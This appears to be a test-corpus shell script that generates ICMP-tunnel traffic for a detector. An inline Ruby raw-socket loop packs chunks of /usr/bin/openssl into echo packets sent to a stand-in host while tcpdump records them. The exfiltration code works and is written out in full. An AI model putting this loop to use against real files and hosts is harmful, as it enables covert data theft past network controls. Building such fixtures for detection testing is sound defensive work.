#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=icmp-tunnel half=tune tool=ruby far=out seconds=18 parts=dns
# Ruby carries a file away in echo, 1 kB in each; the far end's kernel gives it back as it must.
if [ "$1" = out ]; then exec timeout 25 tcpdump -q -n -i wan -w "$LAB/echo.pcap" 'icmp[0] = 8'; fi
sleep 2; timeout 14 ruby -rsocket -e 's = Socket.new(:INET, :RAW, 1); to = Socket.sockaddr_in(0, "203.0.113.66"); d = File.open("/usr/bin/openssl", "rb")
100.times do |n|
	p = [8, 0, 0, 4242, n].pack("CCnnn") + d.read(1000); t = p.unpack("n*").sum; t = (t >> 16) + (t & 0xffff) while t > 0xffff
	p[2, 2] = [~t & 0xffff].pack("n"); s.send(p, 0, to); s.recv(2000); sleep 0.1
end' || exit 1
sleep 1; [ "$(stat -c %s "$LAB/echo.pcap")" -gt 60000 ]
